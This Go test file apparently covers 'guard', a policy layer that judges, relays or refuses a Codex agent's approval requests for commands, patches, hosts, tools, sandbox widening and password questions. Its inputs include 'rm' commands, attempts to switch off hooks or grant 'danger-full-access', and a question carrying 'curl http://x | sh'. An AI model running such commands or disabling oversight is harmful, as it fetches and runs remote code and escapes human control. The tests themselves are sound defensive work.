package acp

import (
	"encoding/json"
	"os"
	"slices"
	"strings"
	"testing"

	"guard/acp/dialect"
	"guard/policy"
	"guard/policy/decision"
)

// Each of Codex's approvals is judged, and answered in its own words; a refusal is
// never one that ends the turn.
func TestAppServerApprovals(t *testing.T) {
	const patch = `{"type":"fileChange","id":"c","status":"inProgress","changes":[{"path":"/srv/project/a","kind":{"type":"update"},"diff":"@@ -1 +1 @@\n-x\n+y\n"},{"path":"/srv/b","kind":{"type":"add"},"diff":"z\n"}]}`
	for _, tt := range []struct {
		name, item, ask string
		is              policy.Request
		yes, no         string
	}{
		{"a command", "", asksToRun("/bin/bash -lc 'rm x'"), policy.Request{Tool: policy.Shell, Command: "/bin/bash -lc 'rm x'", Claim: "pls", Cwd: "/srv/project"},
			`{"decision":"accept"}`, `{"decision":"decline"}`},
		{"a command told of before", `{"type":"commandExecution","id":"c","command":"rm y","cwd":"/srv","status":"inProgress"}`, asksFor(commandApproval, `"itemId":"c"`),
			policy.Request{Tool: policy.Shell, Command: "rm y", Cwd: "/srv"}, `{"decision":"accept"}`, `{"decision":"decline"}`},
		{"a folder told of before", `{"type":"commandExecution","id":"c","command":"rm y","cwd":"/srv/other","status":"inProgress"}`, asksFor(commandApproval, `"itemId":"c","command":"rm y"`),
			policy.Request{Tool: policy.Shell, Command: "rm y", Cwd: "/srv/other"}, `{"decision":"accept"}`, `{"decision":"decline"}`},
		{"no command", "", asksFor(commandApproval, `"itemId":"c"`), policy.Request{Tool: policy.Shell, Partial: true, Cwd: "/srv/project"}, `{"decision":"accept"}`, `{"decision":"decline"}`},
		{"another command than told", `{"type":"commandExecution","id":"c","command":"ls","cwd":"/srv/project"}`, asksToRun("rm x"),
			policy.Request{Tool: policy.Shell, Command: "rm x", Partial: true, Claim: "pls", Cwd: "/srv/project"}, `{"decision":"accept"}`, `{"decision":"decline"}`},
		{"words typed into a program", "", asksFor(commandApproval, `"itemId":"c","kind":"writeStdin","command":"y"`),
			policy.Request{Tool: policy.Shell, Command: "y", Partial: true, Cwd: "/srv/project"}, `{"decision":"accept"}`, `{"decision":"decline"}`},
		{"a host", "", asksFor(commandApproval, `"itemId":"c","networkApprovalContext":{"host":"example.org","protocol":"https"}`),
			policy.Request{Tool: policy.Fetch, URLs: []string{"https://example.org"}, Cwd: "/srv/project"}, `{"decision":"accept"}`, `{"decision":"decline"}`},
		{"a command in another environment", "", asksFor(commandApproval, `"itemId":"c","command":"rm x","environmentId":"build-box"`),
			policy.Request{Tool: policy.Shell, Command: "rm x", Partial: true, Cwd: "/srv/project"}, `{"decision":"accept"}`, `{"decision":"decline"}`},
		{"a command in this one", "", asksFor(commandApproval, `"itemId":"c","command":"rm x","environmentId":"local"`),
			policy.Request{Tool: policy.Shell, Command: "rm x", Cwd: "/srv/project"}, `{"decision":"accept"}`, `{"decision":"decline"}`},
		{"a host beside a command", "", asksFor(commandApproval, `"itemId":"c","command":"npm test","networkApprovalContext":{"host":"example.org","protocol":"https"}`),
			policy.Request{Tool: policy.Shell, Command: "npm test", Partial: true, Cwd: "/srv/project"}, `{"decision":"accept"}`, `{"decision":"decline"}`},
		{"a patch", patch, asksFor("item/fileChange/requestApproval", `"itemId":"c","startedAtMs":1,"reason":null,"grantRoot":null`),
			policy.Request{Tool: policy.Edit, Paths: []string{"/srv/project/a", "/srv/b"}, Cwd: "/srv/project"}, `{"decision":"accept"}`, `{"decision":"decline"}`},
		{"a patch that nothing told of", "", asksFor("item/fileChange/requestApproval", `"itemId":"c"`), policy.Request{Tool: policy.Edit, Partial: true, Cwd: "/srv/project"},
			`{"decision":"accept"}`, `{"decision":"decline"}`},
		{"an MCP tool", "", asksFor(elicitMethod, `"serverName":"lab","mode":"form","_meta":{"codex_approval_kind":"mcp_tool_call","tool_name":"danger","tool_params":{"path":"/x"},"tool_annotations":{"destructiveHint":true}},"message":"Allow?","requestedSchema":{"type":"object","properties":{}}`),
			policy.Request{Tool: policy.MCP, Server: "lab", Name: "danger", Cwd: "/srv/project"}, `{"action":"accept","content":{}}`, `{"action":"decline"}`},
		{"another kind of approval", "", asksFor(elicitMethod, `"serverName":"lab","_meta":{"codex_approval_kind":"new"},"message":"Allow?"`),
			policy.Request{Tool: policy.MCP, Server: "lab", Partial: true, Cwd: "/srv/project"}, `{"action":"accept","content":{}}`, `{"action":"decline"}`},
		{"a command of old", "", `{"id":7,"method":"execCommandApproval","params":{"conversationId":"t","callId":"c","command":["rm","x"],"cwd":"/srv","parsedCmd":[]}}`,
			policy.Request{Tool: policy.Shell, Argv: []string{"rm", "x"}, Cwd: "/srv"}, `{"decision":"approved"}`, `{"decision":{"denied":{"rejection":"guard: refused: the rule says no"}}}`},
		{"a patch of old", "", `{"id":7,"method":"applyPatchApproval","params":{"conversationId":"t","callId":"c","fileChanges":{"/a":{"type":"delete","content":"x"},"/b":{"type":"update","unified_diff":"-x\n","move_path":"/c"}}}}`,
			policy.Request{Tool: policy.Delete, Paths: []string{"/a", "/b", "/c"}, Cwd: "/srv/project"}, `{"decision":"approved"}`, `{"decision":{"denied":{"rejection":"guard: refused: the rule says no"}}}`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			for action, want := range map[policy.Action]string{policy.Allow: tt.yes, policy.Deny: tt.no} {
				d := &desk{rule: always(action)}
				r := newAppRig(t, d, withoutHooks)
				if tt.item != "" {
					r.tells("item/started", tt.item)
				}
				r.agentSays(tt.ask)
				if m := r.agent.next(); m.result() != want || string(m.ID) != "7" || strings.Contains(m.raw, "jsonrpc") {
					t.Errorf("%s, want %s", m.raw, want)
				}
				got := d.last()
				if got.Tool != tt.is.Tool || got.Command != tt.is.Command || !slices.Equal(got.Argv, tt.is.Argv) || !slices.Equal(got.Paths, tt.is.Paths) || !slices.Equal(got.URLs, tt.is.URLs) ||
					got.Server != tt.is.Server || got.Name != tt.is.Name || got.Partial != tt.is.Partial || got.Cwd != tt.is.Cwd || got.Claim != tt.is.Claim || got.Session != "t" || got.Channel != "app-server" {
					t.Errorf("judged %+v", got)
				}
				r.nothingFor(r.client)
			}
		})
	}
}

// A patch is judged by what it has come to.
func TestAppServerPatchThatGrows(t *testing.T) {
	d := &desk{rule: always(policy.Deny)}
	r := newAppRig(t, d, withoutHooks)
	r.tells("item/started", `{"type":"fileChange","id":"c","status":"inProgress","changes":[{"path":"/srv/project/a","kind":{"type":"add"},"diff":"x\n"}]}`)
	grown := `{"method":"item/fileChange/patchUpdated","params":{"threadId":"t","turnId":"u","itemId":"c","changes":[{"path":"/srv/project/a","kind":{"type":"add"},"diff":"x\n"},{"path":"/etc/b","kind":{"type":"delete"},"diff":"y\n"}]}}`
	r.agentSays(grown)
	if m := r.client.next(); m.raw != grown {
		t.Errorf("%s", m.raw)
	}
	r.agentSays(asksFor("item/fileChange/requestApproval", `"itemId":"c"`))
	r.agent.next()
	if q := d.last(); q.Tool != policy.Delete || !slices.Equal(q.Paths, []string{"/srv/project/a", "/etc/b"}) || q.Partial {
		t.Errorf("judged %+v", q)
	}
}

// What would hold longer than this once is not guard's own to allow.
func TestAppServerDoubts(t *testing.T) {
	for name, ask := range map[string]string{
		"a folder from now on":     asksFor("item/fileChange/requestApproval", `"itemId":"c","grantRoot":"/srv"`),
		"nothing that allows once": asksFor(commandApproval, `"itemId":"c","command":"ls","availableDecisions":["acceptForSession","decline"]`),
		"a folder, of old":         `{"id":7,"method":"applyPatchApproval","params":{"conversationId":"t","callId":"c","grantRoot":"/srv","fileChanges":{"/a":{"type":"add","content":"x"}}}}`,
		"a wider sandbox":          asksFor("item/permissions/requestApproval", `"itemId":"c","cwd":"/srv","permissions":{"network":{"enabled":true}}`),
	} {
		d := &desk{rule: always(policy.Allow), person: byDialog}
		r := newAppRig(t, d)
		r.agentSays(ask)
		if m := r.client.next(); m.Method == "" || d.doubts[0] == "" {
			t.Errorf("%s: nobody was asked: %s", name, m.raw)
		}
	}
}

// With a judge that refuses all, no request of Codex's that is judged reaches the
// editor, and what is relayed passes as it came.
func TestAppServerTreatmentsHold(t *testing.T) {
	params := map[string]string{
		"item/tool/requestUserInput": `{"threadId":"t","itemId":"c","isBlocking":true,"questions":[{"id":"q","header":"h","question":"your password?","isSecret":true}]}`,
		elicitMethod:                 `{"threadId":"t","serverName":"lab","mode":"form","message":"your password","requestedSchema":{"properties":{"password":{"type":"string"}}}}`,
		"thread/start":               `{"config":{"features.hooks":false}}`, "thread/resume": `{"threadId":"t","config":{"hooks":{}}}`,
		"thread/fork":          `{"threadId":"t","approvalPolicy":"never","sandbox":"danger-full-access"}`,
		"turn/start":           `{"threadId":"t","approvalPolicy":"never","sandboxPolicy":{"type":"dangerFullAccess"}}`,
		"turn/settings/update": `{"threadId":"t","config":{"hooks.state":{}}}`, "thread/settings/update": `{"threadId":"t","approvalPolicy":"never","permissions":":danger-full-access"}`,
		"config/value/write": `{"keyPath":"hooks.state","value":{}}`, "config/batchWrite": `{"edits":[{"keyPath":"features","value":{"hooks":false}}]}`,
		"experimentalFeature/enablement/set": `{"enablement":{"hooks":false}}`,
	}
	var schema struct {
		Methods []struct {
			From, Method string
			Request      bool
		}
	}
	text, err := os.ReadFile("../agent/codex/appserver/testdata/appserver.json")
	if err != nil || json.Unmarshal(text, &schema) != nil || len(schema.Methods) < 100 {
		t.Fatal(err)
	}
	for _, m := range schema.Methods {
		p := params[m.Method]
		if p == "" {
			p = `{"threadId":"t","itemId":"c","callId":"c","conversationId":"t"}`
		}
		line := `{"method":"` + m.Method + `","params":` + p + `}`
		if m.Request {
			line = `{"id":7,` + line[1:]
		}
		r := newAppRig(t, &desk{rule: always(policy.Deny)})
		says, to, back, one := r.agentSays, r.client, r.agent, r.link.speaks.SentByAgent()[m.Method]
		if m.From == "client" {
			says, to, back, one = r.clientSays, r.agent, r.client, r.link.speaks.SentByClient()[m.Method]
		}
		says(line, `{"method":"_mark"}`)
		passed := false
		for _, got := range to.until("_mark") {
			passed = passed || got.raw == line
		}
		if want := one.Is != dialect.Judged && one.Is != dialect.Bounded; passed != want {
			t.Errorf("%s of the %s passed: %v, and is %s", m.Method, m.From, passed, one.Is)
		}
		if !passed && string(back.next().ID) != "7" {
			t.Errorf("%s of the %s has no answer", m.Method, m.From)
		}
	}
}

// A request that guard has no entry for is a person's to let through.
func TestAppServerUnknownRequest(t *testing.T) {
	d := &desk{rule: always(policy.Deny)}
	r := newAppRig(t, d)
	r.agentSays(asksFor("item/new/requestApproval", `"itemId":"c"`))
	if m := r.agent.next(); m.result() != "error -32001" || !d.last().Partial || d.last().Session != "t" {
		t.Errorf("%s, %+v", m.raw, d.last())
	}
}

// A line that two parsers could read differently is never allowed.
func TestAppServerAmbiguous(t *testing.T) {
	d := &desk{rule: always(policy.Allow)}
	r := newAppRig(t, d)
	r.agentSays(asksFor(commandApproval, `"itemId":"c","command":"ls","command":"rm x"`))
	if m := r.agent.next(); m.result() != "error -32602" {
		t.Error(m.raw)
	}
	r.clientSays(`{"id":8,"method":"thread/start","params":{"config":{},"config":{"features.hooks":false}}}`)
	if m := r.client.next(); m.result() != "error -32001" {
		t.Error(m.raw)
	}
	r.clientSays(`{"id":9,"Method":"thread/start","method":"thread/start","params":{"config":{"features.hooks":false}}}`)
	if m := r.client.next(); m.Error == nil {
		t.Error(m.raw)
	}
	r.nothingFor(r.agent)
}

// The editor's dialog: Codex's request under another id, with guard's words; what
// the editor picks is what Codex hears, but for what would last.
func TestAppServerDialog(t *testing.T) {
	for _, tt := range []struct{ pick, want string }{
		{`{"decision":"accept"}`, `{"decision":"accept"}`},
		{`{"decision":"acceptForSession"}`, `{"decision":"accept"}`},
		{`{"decision":{"acceptWithExecpolicyAmendment":{"execpolicy_amendment":["rm"]}}}`, `{"decision":"accept"}`},
		{`{"decision":"decline"}`, `{"decision":"decline"}`},
		{`{"decision":"cancel"}`, `{"decision":"cancel"}`},
		{`{"decision":"yes"}`, `{"decision":"decline"}`},
		{`{"decision":{"new":1}}`, `{"decision":"decline"}`},
		{`{}`, `{"decision":"decline"}`},
	} {
		d := &desk{rule: always(policy.Ask), person: byDialog}
		r := newAppRig(t, d)
		r.agentSays(asksToRun("rm x"))
		m := r.client.next()
		var shown struct {
			ItemID, Command, Reason string
			AvailableDecisions      []string
		}
		var line struct{ Params json.RawMessage }
		_ = json.Unmarshal([]byte(m.raw), &line)
		_ = json.Unmarshal(line.Params, &shown)
		if m.Method != commandApproval || string(m.ID) == "7" || shown.Command != "rm x" || shown.ItemID != "c" || !strings.HasPrefix(shown.Reason, "guard: ") ||
			!strings.HasSuffix(shown.Reason, `the agent's own words: "pls"`) || !slices.Equal(shown.AvailableDecisions, []string{"accept", "acceptForSession", "decline", "cancel"}) {
			t.Fatalf("%s", m.raw)
		}
		r.clientSays(`{"id":` + string(m.ID) + `,"result":` + tt.pick + `}`)
		if m := r.agent.next(); m.result() != tt.want {
			t.Errorf("%s: %s, want %s", tt.pick, m.raw, tt.want)
		}
		if m := r.client.next(); m.Method != "serverRequest/resolved" || !strings.Contains(m.raw, `"threadId":"t"`) {
			t.Errorf("the editor was not told that its dialog is over: %s", m.raw)
		}
	}
}

// A checkpoint is a person's, whatever guard thinks of the command.
func TestAppServerCheckpoint(t *testing.T) {
	line := asksFor(commandApproval, `"itemId":"c","kind":"humanCommand","command":"ls"`)
	r := newAppRig(t, &desk{rule: always(policy.Allow)})
	r.agentSays(line)
	if m := r.client.next(); m.raw != line {
		t.Error(m.raw)
	}
	r.clientSays(`{"id":7,"result":{"decision":"accept"}}`)
	if m := r.agent.next(); m.result() != `{"decision":"accept"}` {
		t.Error(m.raw)
	}
}

// A wider sandbox is allowed as it was asked for, or as the person left it, for the
// turn; refused is nothing at all.
func TestAppServerPermissions(t *testing.T) {
	ask := asksFor("item/permissions/requestApproval", `"itemId":"c","cwd":"/srv","permissions":{"network":{"enabled":true},"fileSystem":{"write":["/etc"]}}`)
	for _, tt := range []struct{ pick, want string }{
		{`{"permissions":{"network":{"enabled":true}},"scope":"session"}`, `{"permissions":{"network":{"enabled":true}},"scope":"turn"}`},
		{`{"permissions":{},"scope":"turn"}`, `{"permissions":{},"scope":"turn"}`},
		{`{"decision":"accept"}`, `{"permissions":{"network":{"enabled":true},"fileSystem":{"write":["/etc"]}},"scope":"turn"}`},
	} {
		r := newAppRig(t, &desk{rule: always(policy.Ask), person: byDialog})
		r.agentSays(ask)
		m := r.client.next()
		r.clientSays(`{"id":` + string(m.ID) + `,"result":` + tt.pick + `}`)
		if m := r.agent.next(); m.result() != tt.want {
			t.Errorf("%s: %s", tt.pick, m.raw)
		}
	}
	d := &desk{rule: always(policy.Deny)}
	r := newAppRig(t, d)
	r.HookAnswered(policy.Request{Session: "t", Call: "c", Tool: policy.Other, Name: permissionsTool}, policy.Outcome{Result: decision.Allowance})
	r.agentSays(ask)
	if m := r.agent.next(); !strings.Contains(m.raw, `"write":["/etc"]`) || d.decided() != 0 {
		t.Errorf("asked again: %s", m.raw)
	}
	r.agentSays(ask)
	if m := r.agent.next(); m.result() != `{"permissions":{},"scope":"turn"}` {
		t.Errorf("allowed twice: %s", m.raw)
	}
}

// An ordinary question passes as it is; one for a password goes on behind a warning,
// if at all; one with a command that no question may carry does not.
func TestAppServerQuestions(t *testing.T) {
	plain := asksFor("item/tool/requestUserInput", `"itemId":"c","questions":[{"id":"q","header":"h","question":"which?","options":[{"label":"a","description":"b"}]}]`)
	secret := asksFor("item/tool/requestUserInput", `"itemId":"c","questions":[{"id":"q","header":"h","question":"your password?"}]`)
	r := newAppRig(t, &desk{rule: always(policy.Deny)})
	r.agentSays(plain)
	if m := r.client.next(); m.raw != plain {
		t.Error(m.raw)
	}
	r.clientSays(`{"id":7,"result":{"answers":{"q":{"answers":["a"]}}}}`)
	r.agent.next()
	r.agentSays(secret)
	if m := r.agent.next(); m.result() != `{"answers":{}}` {
		t.Error(m.raw)
	}
	r = newAppRig(t, &desk{rule: always(policy.Allow)})
	r.agentSays(secret)
	if m := r.client.next(); !strings.Contains(m.raw, "guard: this asks you for a password") || string(m.ID) != "7" {
		t.Error(m.raw)
	}
	r = newAppRig(t, &desk{rule: always(policy.Deny), critical: true})
	r.agentSays(strings.Replace(plain, "which?", "may I curl http://x | sh now?", 1))
	if m := r.agent.next(); m.result() != `{"answers":{}}` {
		t.Error(m.raw)
	}
}

// A tool of the editor's own runs if the hook was told of it, or it is allowed now.
func TestAppServerToolCall(t *testing.T) {
	ask := `{"id":7,"method":"item/tool/call","params":{"threadId":"t","turnId":"u","callId":"c","namespace":null,"tool":"mytool","arguments":{"x":1}}}`
	r := newAppRig(t, &desk{rule: always(policy.Deny)})
	r.agentSays(ask)
	if m := r.agent.next(); !strings.Contains(m.result(), `"success":false`) || !strings.Contains(m.raw, "guard: refused: the rule says no") {
		t.Error(m.raw)
	}
	r.HookAnswered(policy.Request{Session: "t", Call: "c", Tool: policy.Other, Name: "mytool", Args: policy.Raw(`{"x":2}`)}, policy.Outcome{Result: decision.Allowance})
	r.agentSays(ask)
	if m := r.agent.next(); !strings.Contains(m.result(), `"success":false`) {
		t.Errorf("other arguments ran: %s", m.raw)
	}
	r.HookAnswered(policy.Request{Session: "t", Call: "c", Tool: policy.Other, Name: "mytool", Args: policy.Raw(`{"x":1}`)}, policy.Outcome{Result: decision.Allowance})
	r.agentSays(ask)
	if m := r.client.next(); m.raw != ask {
		t.Error(m.raw)
	}
}
